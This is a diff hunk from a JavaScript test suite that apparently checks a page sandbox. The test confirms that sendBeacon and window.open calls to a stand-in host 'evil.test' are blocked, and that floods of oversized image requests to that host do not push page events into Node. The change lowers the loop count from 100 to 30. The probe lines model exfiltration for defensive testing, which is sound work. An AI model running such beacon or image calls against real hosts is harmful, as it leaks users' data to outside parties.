@@ -233,7 +233,7 @@ describe('containment: bounded output that cannot script (issue 11)', function (
         if (gone !== 'undefined,undefined,undefined,undefined,undefined') throw new Error('still there: ' + gone);
         if (navigator.sendBeacon('http://evil.test/', 'x') !== false || window.open('http://evil.test/') !== null) throw new Error('beacon or popup');
         var u = 'http://evil.test/' + 'u'.repeat(1024 * 1024);
-        for (var i = 0; i < 100; i++) { new Image().src = u + i; }`;
+        for (var i = 0; i < 30; i++) { new Image().src = u + i; }`;
       const { deltaMb, status, eventMb } = await rssDuring(withTickFn(probe));
       expect(status).to.equal(200);
       expect(eventMb, `${eventMb.toFixed(1)} MB of page events reached Node`).to.be.below(1);
